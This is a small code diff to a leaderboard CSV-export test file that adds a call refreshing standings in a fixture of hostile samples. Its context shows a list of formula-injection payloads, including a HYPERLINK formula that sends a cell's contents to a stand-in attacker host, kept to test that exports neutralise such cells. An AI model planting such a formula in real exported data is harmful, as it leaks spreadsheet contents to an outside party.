@@ -12,6 +12,7 @@ from leaderboard.exports import FORMULA_PREFIXES, csv_cell, csv_response
 from leaderboard.selectors import LeaderboardFilters, leaderboard_get
 from runs.models import Function, Paper, Sample, Suite
 from tests.leaderboard.factories import FAIL, PASS, make_attempt, make_run
+from tests.support import standings_refreshed
 
 INJECTIONS = [
     '=HYPERLINK("https://evil.example/?leak="&A1,"click me")',
@@ -40,6 +41,7 @@ def hostile(db):
                        finished=datetime(2026, 1, 10, tzinfo=UTC))
         for index, sample in enumerate(samples):
             make_attempt(run, sample, 0, PASS if (index + position) % 2 else FAIL)
+    standings_refreshed()
     return samples
 
 
